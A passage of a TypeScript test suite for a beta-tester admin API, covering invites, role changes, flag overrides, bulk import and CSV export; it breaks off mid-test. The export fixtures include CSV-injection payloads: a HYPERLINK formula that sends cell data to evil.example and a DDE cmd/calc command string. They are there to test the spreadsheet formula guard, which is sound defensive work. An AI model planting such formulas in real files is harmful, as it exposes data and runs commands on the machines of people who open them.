// Beta testers through HTTP: the admin API (create, validate, list with search, filters and a
// stable cursor, edit, roles by owners only, per-flag overrides seen by OFREP, re-invite, delete,
// bulk import, CSV export of hostile cells) and the public, rate-limited invite redemption.
import { parse } from 'csv-parse/sync';
import type { LightMyRequestResponse } from 'fastify';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from './helpers/test-app.js';

const OWNER = 'owner@example.com';
const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;
/** 22 base64url characters carry 132 bits. */
const INVITE_CODE = /^[A-Za-z0-9_-]{22,}$/;

interface UserJson {
  id: string;
  email: string;
  invite_code: string;
  invite_url: string;
  flag_set: Record<string, boolean>;
  joined_at: string;
  redeemed_at: string | null;
  is_active: boolean;
  role: 'TESTER' | 'ADMIN';
  notes: string | null;
  source: 'admin' | 'feedback' | 'import';
  created_at: string;
  updated_at: string;
}

interface AuditJson {
  actor: string;
  action: string;
  entity_type: string;
  entity_id: string | null;
  before: Record<string, unknown> | null;
  after: Record<string, unknown> | null;
}

type Headers = Record<string, string>;

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** What a spreadsheet-safe export must turn a cell into (OWASP CSV injection rule). */
const guarded = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);

function expectError(res: LightMyRequestResponse, status: number, code: string) {
  expect(res.statusCode, res.body).toBe(status);
  const body = res.json();
  expect(body).toEqual({ error: { code, message: expect.any(String) } });
  return body.error.message as string;
}

describe('beta testers', () => {
  let t: TestApp;
  let admin: Headers;
  let evaluate: Headers;
  let owner: { cookie: string; csrf: string };
  let ownerWrite: Headers;
  let adminSession: Headers;
  let ipSeq = 0;

  async function session(email: string, role: 'OWNER' | 'ADMIN') {
    const s = await t.auth.startSession({ email, issuer: 'test', subject: email, userAgent: null, ip: null }, role, null);
    return { cookie: `bs_session=${s.sessionId}`, csrf: s.csrfToken };
  }

  const countUsers = async () => {
    const row = await t.testDb.database.db
      .selectFrom('beta_users')
      .select((eb) => eb.fn.countAll<string>().as('n'))
      .executeTakeFirstOrThrow();
    return Number(row.n);
  };
  const post = (payload: object, headers: Headers = admin) => t.app.inject({ method: 'POST', url: '/api/admin/users', headers, payload });
  async function createUser(payload: { email: string } & Record<string, unknown>, headers: Headers = admin): Promise<UserJson> {
    const res = await post(payload, headers);
    expect(res.statusCode, res.body).toBe(201);
    return res.json();
  }
  const getUser = (id: string, headers: Headers = admin) => t.app.inject({ url: `/api/admin/users/${id}`, headers });
  const patch = (id: string, payload: object, headers: Headers = admin) =>
    t.app.inject({ method: 'PATCH', url: `/api/admin/users/${id}`, headers, payload });
  const list = (query: string, headers: Headers = admin) => t.app.inject({ url: `/api/admin/users?${query}`, headers });
  const importText = (text: unknown, headers: Headers = admin) =>
    t.app.inject({ method: 'POST', url: '/api/admin/users/import', headers, payload: { text } });
  /** Every redemption from its own address, so the public rate limit never interferes here. */
  const redeem = (payload: object, remoteAddress = `10.0.${Math.floor(++ipSeq / 250)}.${(ipSeq % 250) + 1}`) =>
    t.app.inject({ method: 'POST', url: '/api/beta/redeem', payload, remoteAddress });
  async function audit(query: string): Promise<AuditJson[]> {
    const params = new URLSearchParams({ entity_type: 'beta_user', limit: '200' });
    for (const [key, value] of new URLSearchParams(query)) params.set(key, value);
    const res = await t.app.inject({ url: `/api/admin/audit?${params.toString()}`, headers: admin });
    expect(res.statusCode, res.body).toBe(200);
    return res.json<{ items: AuditJson[] }>().items;
  }
  async function listAll(query: string, limit: number): Promise<{ pages: UserJson[][] }> {
    const pages: UserJson[][] = [];
    let cursor: string | null = null;
    do {
      const res = await list(`${query}&limit=${limit}${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`);
      expect(res.statusCode, res.body).toBe(200);
      const body = res.json();
      pages.push(body.items);
      cursor = body.next_cursor;
      expect(pages.length).toBeLessThan(1000);
    } while (cursor);
    return { pages };
  }

  beforeAll(async () => {
    t = await createTestApp({ ADMIN_EMAILS: OWNER });
    await t.app.ready();
    admin = { authorization: `Bearer ${await t.token('admin')}` };
    evaluate = { authorization: `Bearer ${await t.token('evaluate')}` };
    owner = await session(OWNER, 'OWNER');
    ownerWrite = { cookie: owner.cookie, 'x-csrf-token': owner.csrf };
    // A non-owner admin session: the owner grants the role through the API first.
    await createUser({ email: 'second-admin@example.com', role: 'ADMIN' }, ownerWrite);
    const s = await session('second-admin@example.com', 'ADMIN');
    adminSession = { cookie: s.cookie, 'x-csrf-token': s.csrf };
  });
  afterAll(() => t.close());

  describe('create', () => {
    it('answers 201 with a URL-safe invite code of at least 128 bits and a ready-to-send invite URL, audited', async () => {
      const res = await post({ email: 'Ada@Create.example', notes: 'first tester', flag_set: { 'voice-mode': true } });
      expect(res.statusCode, res.body).toBe(201);
      const user = res.json<UserJson>();
      expect(user).toMatchObject({
        email: 'Ada@Create.example',
        role: 'TESTER',
        is_active: true,
        notes: 'first tester',
        flag_set: { 'voice-mode': true },
        source: 'admin',
        redeemed_at: null,
      });
      expect(user.id).toMatch(UUID);
      expect(user.invite_code).toMatch(INVITE_CODE);
      const url = new URL(user.invite_url);
      expect(url.origin).toBe(new URL(t.config.publicUrl).origin);
      expect(url.searchParams.get('code')).toBe(user.invite_code);
      expect(Number.isNaN(Date.parse(user.created_at))).toBe(false);

      // Codes are unique and not derived from anything guessable.
      const others = await Promise.all([1, 2, 3, 4, 5].map((i) => createUser({ email: `code-${i}@create.example` })));
      const codes = new Set([user, ...others].map((u) => u.invite_code));
      expect(codes.size).toBe(6);
      for (const other of others) expect(other.invite_code).toMatch(INVITE_CODE);

      const entries = await audit(`entity_id=${user.id}`);
      expect(entries.map((e) => `${e.actor} ${e.action}`)).toEqual(['token:test-admin beta_user.create']);
      expect(entries[0]!.after).toMatchObject({ email: 'Ada@Create.example' });
    });

    it('refuses a duplicate email, case-insensitively, with 409 and stores nothing', async () => {
      await createUser({ email: 'dup@create.example' });
      const before = await countUsers();
      expectError(await post({ email: 'dup@create.example' }), 409, 'CONFLICT');
      expectError(await post({ email: 'DUP@Create.Example', notes: 'again' }), 409, 'CONFLICT');
      expect(await countUsers()).toBe(before);
    });

    it.each([
      ['no email', {}],
      ['a malformed email', { email: 'not-an-email' }],
      ['an email without a domain dot', { email: 'a@b' }],
      ['an email with spaces', { email: 'bad email@validation.example' }],
      ['an email that is a number', { email: 42 }],
      ['an email in an array', { email: ['v1@validation.example'] }],
      ['an unknown field', { email: 'v2@validation.example', colour: 'red' }],
      ['an unknown role', { email: 'v3@validation.example', role: 'OWNER' }],
      ['a lowercase role', { email: 'v4@validation.example', role: 'admin' }],
      ['notes that are a number', { email: 'v5@validation.example', notes: 5 }],
      ['notes over 2000 characters', { email: 'v6@validation.example', notes: 'n'.repeat(2001) }],
      ['a flag_set array', { email: 'v7@validation.example', flag_set: ['voice-mode'] }],
      // A string is a typed flag's variant name: a lowercase slug, so 'Yes!' is neither boolean nor a name.
      ['a flag_set value neither boolean nor a variant name', { email: 'v8@validation.example', flag_set: { 'voice-mode': 'Yes!' } }],
      ['a flag_set key that is no flag name', { email: 'v9@validation.example', flag_set: { 'Bad Name': true } }],
      ['a non-boolean value under a key that is no flag name', { email: 'v90@validation.example', flag_set: { 'Bad Name': 'yes' } }],
      ['an object under a key that is no flag name', { email: 'v91@validation.example', flag_set: { '': { deep: [1, 2] } } }],
      ['an email over 254 characters', { email: `${'a'.repeat(250)}@validation.example` }],
    ])('refuses %s with 400 and stores nothing', async (_name, payload) => {
      const before = await countUsers();
      expectError(await post(payload), 400, 'VALIDATION_ERROR');
      expect(await countUsers()).toBe(before);
      const email = (payload as { email?: unknown }).email;
      if (typeof email === 'string' && email.length <= 254)
        expect((await list(`search=${encodeURIComponent(email)}`)).json().items).toEqual([]);
    });

    it('refuses a non-JSON body with 415', async () => {
      const res = await t.app.inject({
        method: 'POST',
        url: '/api/admin/users',
        headers: { ...admin, 'content-type': 'text/plain' },
        payload: 'email=x@validation.example',
      });
      expectError(res, 415, 'UNSUPPORTED_MEDIA_TYPE');
    });

    it('lets only an owner session create a tester with a role', async () => {
      const before = await countUsers();
      expectError(await post({ email: 'role@create.example', role: 'ADMIN' }), 403, 'FORBIDDEN');
      expectError(await post({ email: 'role@create.example', role: 'ADMIN' }, adminSession), 403, 'FORBIDDEN');
      expect(await countUsers()).toBe(before);
      // An explicit TESTER is no grant.
      expect((await createUser({ email: 'plain@create.example', role: 'TESTER' })).role).toBe('TESTER');
      const granted = await createUser({ email: 'role@create.example', role: 'ADMIN' }, ownerWrite);
      expect(granted.role).toBe('ADMIN');
      expect(await t.auth.roleFor('role@create.example')).toBe('ADMIN');
    });
  });

  describe('list', () => {
    let alpha: UserJson;
    let beta: UserJson;
    let gamma: UserJson;
    let delta: UserJson;

    beforeAll(async () => {
      alpha = await createUser({ email: 'alpha.search@filters.example', notes: 'likes the blue theme' });
      beta = await createUser({ email: 'beta@filters.example', notes: 'a Needle in the notes, 100%_sure' });
      gamma = await createUser({ email: 'gamma@filters.example' });
      expect((await patch(gamma.id, { is_active: false })).statusCode).toBe(200);
      delta = await createUser({ email: 'delta@filters.example', role: 'ADMIN' }, ownerWrite);
      const imported = await importText('epsilon@filters.example');
      expect(imported.json().created).toHaveLength(1);
    });

    const emails = async (query: string) => {
      const res = await list(query);
      expect(res.statusCode, res.body).toBe(200);
      return (res.json().items as UserJson[]).map((u) => u.email).sort();
    };

    it('searches email and notes, case-insensitively, with LIKE wildcards taken literally', async () => {
      expect(await emails('search=alpha.search')).toEqual([alpha.email]);
      expect(await emails('search=ALPHA.SEARCH%40FILTERS')).toEqual([alpha.email]);
      expect(await emails('search=blue%20theme')).toEqual([alpha.email]);
      expect(await emails('search=needle')).toEqual([beta.email]);
      expect(await emails(`search=${encodeURIComponent('100%_')}`)).toEqual([beta.email]);
      const percent = (await list(`search=${encodeURIComponent('%')}&limit=500`)).json().items as UserJson[];
      expect(percent.map((u) => u.email)).toContain(beta.email);
      for (const u of percent) expect(`${u.email} ${u.notes ?? ''}`).toContain('%');
      expect(await emails('search=_lpha')).toEqual([]);
      expect(await emails('search=nobody-matches-this')).toEqual([]);
    });

    it('filters by role, active and source, alone and combined with a search', async () => {
      const all = await emails('search=filters.example');
      expect(all).toEqual([alpha.email, beta.email, delta.email, 'epsilon@filters.example', gamma.email].sort());

      const admins = (await list('role=ADMIN&limit=500')).json().items as UserJson[];
      expect(admins.map((u) => u.email)).toContain(delta.email);
      expect(admins.every((u) => u.role === 'ADMIN')).toBe(true);
      expect(await emails('search=filters.example&role=ADMIN')).toEqual([delta.email]);
      expect(await emails('search=filters.example&role=TESTER')).toEqual(
        [alpha.email, beta.email, 'epsilon@filters.example', gamma.email].sort(),
      );

      const inactive = (await list('active=false&limit=500')).json().items as UserJson[];
      expect(inactive.map((u) => u.email)).toContain(gamma.email);
      expect(inactive.every((u) => !u.is_active)).toBe(true);
      expect(await emails('search=filters.example&active=false')).toEqual([gamma.email]);
      expect(await emails('search=filters.example&active=true')).not.toContain(gamma.email);

      const imported = (await list('source=import&limit=500')).json().items as UserJson[];
      expect(imported.map((u) => u.email)).toContain('epsilon@filters.example');
      expect(imported.every((u) => u.source === 'import')).toBe(true);
      expect(await emails('search=filters.example&source=import')).toEqual(['epsilon@filters.example']);
      expect(await emails('search=filters.example&source=feedback')).toEqual([]);
      expect(await emails('search=filters.example&source=admin&active=true&role=TESTER')).toEqual([alpha.email, beta.email]);
    });

    it.each([
      ['role=OWNER'],
      ['active=maybe'],
      ['source=web'],
      ['limit=0'],
      ['limit=501'],
      ['limit=ten'],
      ['bogus=1'],
      ['cursor=garbage'],
      [`cursor=${Buffer.from(JSON.stringify({ t: 'yesterday', id: 'x' })).toString('base64url')}`],
    ])('refuses the query %s with 400', async (query) => {
      expectError(await list(query), 400, 'VALIDATION_ERROR');
    });

    it('pages with a stable cursor: every tester exactly once, in (created_at, id) order, whatever arrives meanwhile', async () => {
      // 25 in one import share one created_at (one transaction), so ties must be broken by id.
      const lines = Array.from({ length: 25 }, (_, i) => `page-${String(i).padStart(2, '0')}@paging.example`);
      const imported = await importText(lines.join('\n'));
      expect(imported.statusCode, imported.body).toBe(200);
      const expected = new Set<string>((imported.json().created as UserJson[]).map((u) => u.id));
      for (let i = 0; i < 5; i++) expected.add((await createUser({ email: `single-${i}@paging.example` })).id);
      expect(expected.size).toBe(30);

      const { pages } = await listAll('search=paging.example', 7);
      expect(pages.map((p) => p.length)).toEqual([7, 7, 7, 7, 2]);
      const items = pages.flat();
      const ids = items.map((u) => u.id);
      expect(new Set(ids).size).toBe(ids.length);
      expect(new Set(ids)).toEqual(expected);
      const sorted = [...items].sort((a, b) => a.created_at.localeCompare(b.created_at) || a.id.localeCompare(b.id));
      expect(ids).toEqual(sorted.map((u) => u.id));
      // The same order as one big page.
      const whole = (await list('search=paging.example&limit=500')).json();
      expect((whole.items as UserJson[]).map((u) => u.id)).toEqual(ids);
      expect(whole.next_cursor).toBeNull();
      // The first page counts what the filter selects (for "N testers match"); later pages do not.
      expect(whole.matches).toEqual({ count: ids.length, capped: false });
      const first = (await list('search=paging.example&limit=7')).json();
      expect(first.matches).toEqual({ count: ids.length, capped: false });
      const second = (await list(`search=paging.example&limit=7&cursor=${encodeURIComponent(first.next_cursor as string)}`)).json();
      expect(second.matches).toBeNull();
      expect((await list('search=paging.example&active=false&limit=7')).json().matches).toEqual({ count: 0, capped: false });

      // Rows created while paging do not shift the pages already seen.
      const seen: string[] = [];
      let cursor: string | null = null;
      let round = 0;
      do {
        const res = await list(`search=paging.example&limit=7${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`);
        const body = res.json();
        seen.push(...(body.items as UserJson[]).map((u) => u.id));
        cursor = body.next_cursor;
        if (round++ === 1) await createUser({ email: `late-${round}@paging.example` });
      } while (cursor);
      expect(seen.slice(0, 30)).toEqual(ids);
      expect(seen).toHaveLength(31);
      expect(new Set(seen).size).toBe(31);

      // The whole table pages the same way, with no duplicates or gaps.
      const everything = (await listAll('', 7)).pages.flat();
      expect(everything).toHaveLength(await countUsers());
      expect(new Set(everything.map((u) => u.id)).size).toBe(everything.length);
    });
  });

  describe('one tester', () => {
    it('GET returns the tester with their feedback; unknown or malformed ids are 404', async () => {
      const user = await createUser({ email: 'one@get.example', notes: 'hello' });
      const res = await getUser(user.id);
      expect(res.statusCode).toBe(200);
      expect(res.json()).toMatchObject({ ...user, feedback: [] });
      expectError(await getUser('00000000-0000-4000-8000-000000000000'), 404, 'NOT_FOUND');
      expectError(await getUser('not-a-uuid'), 404, 'NOT_FOUND');
      expectError(await getUser(user.id, {}), 401, 'UNAUTHORIZED');
    });

    it('PATCH toggles is_active and edits notes and flag_set, audited with before and after', async () => {
      const user = await createUser({ email: 'edit@patch.example', notes: 'old' });
      const sent = Date.now();
      const off = await patch(user.id, { is_active: false });
      const answered = Date.now();
      expect(off.statusCode, off.body).toBe(200);
      expect(off.json()).toMatchObject({ id: user.id, is_active: false, notes: 'old', invite_code: user.invite_code });
      // Stamped by this PATCH: within the time it took (database and test share this machine's clock).
      expect(Date.parse(off.json().updated_at)).toBeGreaterThanOrEqual(sent);
      expect(Date.parse(off.json().updated_at)).toBeLessThanOrEqual(answered);

      const edited = await patch(user.id, { is_active: true, notes: 'new notes', flag_set: { 'dark-mode': false, 'voice-mode': true } });
      expect(edited.json()).toMatchObject({ is_active: true, notes: 'new notes', flag_set: { 'dark-mode': false, 'voice-mode': true } });
      const cleared = await patch(user.id, { notes: null, flag_set: {} });
      expect(cleared.json()).toMatchObject({ notes: null, flag_set: {}, is_active: true, email: user.email, role: 'TESTER' });
      expect((await getUser(user.id)).json()).toMatchObject({ notes: null, flag_set: {}, is_active: true });

      const entries = await audit(`entity_id=${user.id}`);
      expect(entries.map((e) => e.action)).toEqual(['beta_user.update', 'beta_user.update', 'beta_user.update', 'beta_user.create']);
      expect(entries[3]!.after).toMatchObject({ is_active: true });
      expect(entries[2]!.before).toMatchObject({ is_active: true });
      expect(entries[2]!.after).toMatchObject({ is_active: false });
      expect(entries[0]!.before).toMatchObject({ notes: 'new notes' });
      expect(entries[0]!.after).toMatchObject({ notes: null });
    });

    it.each([
      ['an empty body', {}],
      ['an unknown field', { email: 'other@patch.example' }],
      ['is_active as a string', { is_active: 'false' }],
      ['notes as a number', { notes: 1 }],
      ['a non-boolean flag_set value', { flag_set: { 'voice-mode': 1 } }],
      ['a flag_set key that is no flag name', { flag_set: { 'Bad Name': 'yes' } }],
      ['notes over 2000 characters', { notes: 'n'.repeat(2001) }],
      ['an unknown role', { role: 'OWNER' }],
    ])('PATCH refuses %s with 400 and changes nothing', async (_name, payload) => {
      const user = await createUser({ email: `bad-${Math.random().toString(36).slice(2)}@patch.example`, notes: 'keep' });
      expectError(await patch(user.id, payload), 400, 'VALIDATION_ERROR');
      expect((await getUser(user.id)).json()).toMatchObject({ notes: 'keep', is_active: true, flag_set: {}, role: 'TESTER' });
    });

    it('PATCH of an unknown tester is 404', async () => {
      expectError(await patch('00000000-0000-4000-8000-000000000000', { notes: 'x' }), 404, 'NOT_FOUND');
      expectError(await patch('nope', { notes: 'x' }), 404, 'NOT_FOUND');
    });

    it('changes a role only by an owner session with its CSRF token; the tester then is an admin', async () => {
      const user = await createUser({ email: 'promote@patch.example' });
      // Signed in before the grant: no console access yet.
      const theirs = await session(user.email, 'ADMIN');
      expectError(await list('limit=1', { cookie: theirs.cookie }), 403, 'FORBIDDEN');

      expectError(await patch(user.id, { role: 'ADMIN' }), 403, 'FORBIDDEN');
      expectError(await patch(user.id, { role: 'ADMIN', notes: 'sneaky' }, adminSession), 403, 'FORBIDDEN');
      expect((await patch(user.id, { role: 'ADMIN' }, { cookie: owner.cookie })).statusCode).toBe(403);
      expect((await getUser(user.id)).json()).toMatchObject({ role: 'TESTER', notes: null });
      expect(await t.auth.roleFor(user.email)).toBeUndefined();

      const granted = await patch(user.id, { role: 'ADMIN' }, ownerWrite);
      expect(granted.statusCode, granted.body).toBe(200);
      expect(granted.json().role).toBe('ADMIN');
      expect((await getUser(user.id)).json().role).toBe('ADMIN');
      expect(await t.auth.roleFor(user.email)).toBe('ADMIN');
      expect((await list('limit=1', { cookie: theirs.cookie })).statusCode).toBe(200);

      const entries = await audit(`entity_id=${user.id}&action=beta_user.update`);
      expect(entries).toHaveLength(1);
      expect(entries[0]).toMatchObject({ actor: OWNER, before: { role: 'TESTER' }, after: { role: 'ADMIN' } });

      // And back, again only by an owner.
      expectError(await patch(user.id, { role: 'TESTER' }), 403, 'FORBIDDEN');
      expect((await patch(user.id, { role: 'TESTER' }, ownerWrite)).json().role).toBe('TESTER');
      expectError(await list('limit=1', { cookie: theirs.cookie }), 403, 'FORBIDDEN');
    });

    it('honours a flag_set override in OFREP evaluation shortly after the PATCH, and drops it when deactivated', async () => {
      const flag = await t.app.inject({
        method: 'POST',
        url: '/api/admin/flags',
        headers: admin,
        payload: { name: 'beta-gate', is_enabled: true, rollout_percentage: 0 },
      });
      expect(flag.statusCode, flag.body).toBe(201);
      const user = await createUser({ email: 'flagged@ofrep.example' });
      const bystander = await createUser({ email: 'bystander@ofrep.example' });
      const ofrep = async (context: object) => {
        const res = await t.app.inject({
          method: 'POST',
          url: '/ofrep/v1/evaluate/flags/beta-gate',
          headers: evaluate,
          payload: { context },
        });
        expect(res.statusCode, res.body).toBe(200);
        return res.json<{ value: boolean; reason: string }>();
      };
      const until = async (context: object, want: { value: boolean; reason?: string }) => {
        const deadline = Date.now() + 5_000;
        let last = await ofrep(context);
        while (!(last.value === want.value && (want.reason === undefined || last.reason === want.reason)) && Date.now() < deadline) {
          await sleep(25);
          last = await ofrep(context);
        }
        return last;
      };

      expect((await ofrep({ targetingKey: user.id })).value).toBe(false);
      const set = await patch(user.id, { flag_set: { 'beta-gate': true } });
      expect(set.statusCode).toBe(200);
      const started = Date.now();
      expect(await until({ targetingKey: user.id }, { value: true, reason: 'TARGETING_MATCH' })).toMatchObject({
        value: true,
        reason: 'TARGETING_MATCH',
      });
      expect(Date.now() - started).toBeLessThan(5_000);
      // By email too; nobody else is affected.
      expect(await ofrep({ targetingKey: 'someone-else', email: 'FLAGGED@ofrep.example' })).toMatchObject({ value: true });
      expect((await ofrep({ targetingKey: bystander.id })).value).toBe(false);

      // An explicit false beats nothing; deactivation removes the override.
      expect((await patch(user.id, { flag_set: { 'beta-gate': false } })).statusCode).toBe(200);
      expect(await until({ targetingKey: user.id }, { value: false, reason: 'TARGETING_MATCH' })).toMatchObject({
        value: false,
        reason: 'TARGETING_MATCH',
      });
      expect((await patch(user.id, { flag_set: { 'beta-gate': true } })).statusCode).toBe(200);
      expect((await until({ targetingKey: user.id }, { value: true })).value).toBe(true);
      expect((await patch(user.id, { is_active: false })).statusCode).toBe(200);
      const afterDeactivation = await until({ targetingKey: user.id }, { value: false });
      expect(afterDeactivation.value).toBe(false);
      expect(afterDeactivation.reason).not.toBe('TARGETING_MATCH');

      // A tester created with an override gets it too.
      const born = await createUser({ email: 'born-flagged@ofrep.example', flag_set: { 'beta-gate': true } });
      expect((await until({ targetingKey: born.id }, { value: true, reason: 'TARGETING_MATCH' })).value).toBe(true);
    });

    it('regenerates the invite: a new code and URL, the old code no longer redeemable, audited', async () => {
      const user = await createUser({ email: 'reinvite@invite.example' });
      const res = await t.app.inject({ method: 'POST', url: `/api/admin/users/${user.id}/invite`, headers: admin });
      expect(res.statusCode, res.body).toBe(200);
      const fresh = res.json<UserJson>();
      expect(fresh.invite_code).toMatch(INVITE_CODE);
      expect(fresh.invite_code).not.toBe(user.invite_code);
      expect(new URL(fresh.invite_url).searchParams.get('code')).toBe(fresh.invite_code);
      expect(fresh.redeemed_at).toBeNull();

      expectError(await redeem({ code: user.invite_code, email: user.email }), 404, 'NOT_FOUND');
      expect((await redeem({ code: fresh.invite_code, email: user.email })).statusCode).toBe(200);
      expectError(await redeem({ code: fresh.invite_code, email: user.email }), 404, 'NOT_FOUND');

      // A new invitation after redemption can be redeemed once more.
      const again = (await t.app.inject({ method: 'POST', url: `/api/admin/users/${user.id}/invite`, headers: admin })).json<UserJson>();
      expect(again.redeemed_at).toBeNull();
      expect((await redeem({ code: again.invite_code, email: user.email })).statusCode).toBe(200);

      const entries = await audit(`entity_id=${user.id}&action=beta_user.invite`);
      expect(entries).toHaveLength(2);
      expect(entries[1]!.before).toMatchObject({ invite_code: user.invite_code });
      expect(entries[1]!.after).toMatchObject({ invite_code: fresh.invite_code });

      expectError(
        await t.app.inject({ method: 'POST', url: '/api/admin/users/00000000-0000-4000-8000-000000000000/invite', headers: admin }),
        404,
        'NOT_FOUND',
      );
    });

    it('DELETE answers 204, then 404; admins stay removable by owners only; audited', async () => {
      const user = await createUser({ email: 'gone@delete.example', flag_set: { 'beta-gate': true } });
      const del = await t.app.inject({ method: 'DELETE', url: `/api/admin/users/${user.id}`, headers: admin });
      expect(del.statusCode).toBe(204);
      expect(del.body).toBe('');
      expectError(await getUser(user.id), 404, 'NOT_FOUND');
      expectError(await t.app.inject({ method: 'DELETE', url: `/api/admin/users/${user.id}`, headers: admin }), 404, 'NOT_FOUND');
      expectError(await redeem({ code: user.invite_code, email: user.email }), 404, 'NOT_FOUND');
      // The email is free again.
      expect((await createUser({ email: 'gone@delete.example' })).id).not.toBe(user.id);

      const entries = await audit(`entity_id=${user.id}`);
      expect(entries.map((e) => e.action)).toEqual(['beta_user.delete', 'beta_user.create']);
      expect(entries[0]!.before).toMatchObject({ email: 'gone@delete.example' });

      const adminUser = await createUser({ email: 'admin-user@delete.example', role: 'ADMIN' }, ownerWrite);
      expectError(await t.app.inject({ method: 'DELETE', url: `/api/admin/users/${adminUser.id}`, headers: admin }), 403, 'FORBIDDEN');
      expect((await getUser(adminUser.id)).statusCode).toBe(200);
      expect((await t.app.inject({ method: 'DELETE', url: `/api/admin/users/${adminUser.id}`, headers: ownerWrite })).statusCode).toBe(204);
    });
  });

  describe('import', () => {
    it('creates what is new and reports duplicates (existing and repeated) and invalid lines', async () => {
      const existing = await createUser({ email: 'existing@import.example' });
      const lines = [
        'email,notes',
        'new1@import.example,first note',
        'NEW2@import.example;second',
        'not-an-email',
        'existing@import.example',
        '',
        'EXISTING@import.example',
        'new1@import.example',
        '@missing-local.example',
        'new3@import.example\twith tab',
        '"quoted@import.example","a, b"',
        '   ',
        'two words@import.example',
        'New1@Import.Example,repeated in another case',
      ];
      const before = await countUsers();
      const res = await importText(lines.join('\r\n'));
      expect(res.statusCode, res.body).toBe(200);
      const body = res.json<{
        created: UserJson[];
        duplicates: string[];
        invalid: Array<{ line: number; value: string; reason: string }>;
      }>();

      expect(body.created.map((u) => u.email).sort()).toEqual(
        ['new1@import.example', 'NEW2@import.example', 'new3@import.example', 'quoted@import.example'].sort(),
      );
      for (const u of body.created) {
        expect(u).toMatchObject({ source: 'import', role: 'TESTER', is_active: true, redeemed_at: null });
        expect(u.invite_code).toMatch(INVITE_CODE);
      }
      const notes = Object.fromEntries(body.created.map((u) => [u.email, u.notes]));
      expect(notes).toEqual({
        'new1@import.example': 'first note',
        'NEW2@import.example': 'second',
        'new3@import.example': 'with tab',
        'quoted@import.example': 'a, b',
      });
      expect(body.duplicates.map((d) => d.toLowerCase()).sort()).toEqual(
        ['existing@import.example', 'existing@import.example', 'new1@import.example', 'new1@import.example'].sort(),
      );
      const lineOf = (text: string) => lines.indexOf(text) + 1;
      expect(body.invalid.map((i) => [i.line, i.value]).sort((a, b) => Number(a[0]) - Number(b[0]))).toEqual([
        [lineOf('not-an-email'), 'not-an-email'],
        [lineOf('@missing-local.example'), '@missing-local.example'],
        [lineOf('two words@import.example'), 'two words@import.example'],
      ]);
      for (const i of body.invalid) expect(i.reason).toEqual(expect.any(String));

      expect(await countUsers()).toBe(before + 4);
      expect((await getUser(existing.id)).json()).toMatchObject({ source: 'admin', notes: null });
      const stored = (await list('search=import.example&source=import&limit=500')).json().items as UserJson[];
      expect(stored.map((u) => u.id).sort()).toEqual(body.created.map((u) => u.id).sort());

      const entries = await audit('action=beta_user.import');
      expect(entries[0]).toMatchObject({
        actor: 'token:test-admin',
        after: { created: 4, duplicates: 4, invalid: 3 },
      });

      // The same paste again creates nothing.
      const again = await importText(lines.join('\n'));
      expect(again.json().created).toEqual([]);
      expect(again.json().duplicates).toHaveLength(8);
      expect(await countUsers()).toBe(before + 4);
    });

    it('is one transaction: a failure on one row leaves none of the others behind', async () => {
      const db = t.testDb.database.db;
      await sql`
        CREATE FUNCTION test_refuse_boom() RETURNS trigger LANGUAGE plpgsql AS $$
        BEGIN
          IF NEW.email = 'boom@atomic.example' THEN RAISE EXCEPTION 'refused by test trigger'; END IF;
          RETURN NEW;
        END $$`.execute(db);
      await sql`CREATE TRIGGER test_refuse_boom BEFORE INSERT ON beta_users FOR EACH ROW EXECUTE FUNCTION test_refuse_boom()`.execute(db);
      try {
        const before = await countUsers();
        const auditBefore = (await audit('action=beta_user.import')).length;
        const res = await importText(
          ['first@atomic.example', 'second@atomic.example', 'boom@atomic.example', 'last@atomic.example'].join('\n'),
        );
        expect(res.statusCode).toBe(500);
        expect(await countUsers()).toBe(before);
        expect((await list('search=atomic.example')).json().items).toEqual([]);
        expect((await audit('action=beta_user.import')).length).toBe(auditBefore);
      } finally {
        await sql`DROP TRIGGER test_refuse_boom ON beta_users`.execute(db);
        await sql`DROP FUNCTION test_refuse_boom()`.execute(db);
      }
      const retried = await importText(['first@atomic.example', 'second@atomic.example', 'last@atomic.example'].join('\n'));
      expect(retried.json().created).toHaveLength(3);
    });

    it.each([
      ['an empty text', ''],
      ['a number', 42],
      ['a list', ['a@import-bad.example']],
      ['more than 5000 lines', `${'\n'.repeat(5001)}a@import-bad.example`],
    ])('refuses %s with 400 and stores nothing', async (_name, text) => {
      const before = await countUsers();
      expectError(await importText(text), 400, 'VALIDATION_ERROR');
      expect(await countUsers()).toBe(before);
    });
  });

  describe('CSV export', () => {
    const hostile = [
      '=1+1',
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      '+SUM(A1:A9)',
      '-2+3',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      'say "hi", then leave',
      '"',
      ',leading comma',
      'line one\nline two\r\nline three\rline four',
      'unicode: héllo — 日本語 👋🏽 \u202Eevil\u202C ß',
      '  =spaces first is no formula',
      "'already quoted",
      'plain',
    ];

    it('streams UTF-8 with a BOM and a header; hostile cells parse back equal to the input with the formula guard', async () => {
      const made: UserJson[] = [];
      for (const [i, note] of hostile.entries()) made.push(await createUser({ email: `csv-${i}@export.example`, notes: note }));
      const formulaEmail = await createUser({ email: '=cmd+1@export.example', flag_set: { 'beta-gate': true } });
      const dashEmail = await createUser({ email: '-x@export.example' });

      const res = await t.app.inject({ url: '/api/admin/users.csv', headers: admin });
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toMatch(/^attachment; filename="[^"]+\.csv"$/);
      const raw = res.rawPayload;
      expect([...raw.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const text = raw.subarray(3).toString('utf8');
      // The documented export columns, written out here rather than taken from the route.
      const columns = ['id', 'email', 'role', 'is_active', 'source', 'joined_at', 'redeemed_at', 'notes', 'flag_set', 'created_at'];
      expect(text.split(/\r?\n/)[0]).toBe(columns.join(','));

      const records = parse<Record<string, string>>(raw, { bom: true, columns: true, relax_column_count: false });
      expect(Object.keys(records[0]!)).toEqual(columns);
      expect(records).toHaveLength(await countUsers());
      expect(new Set(records.map((r) => r.id)).size).toBe(records.length);
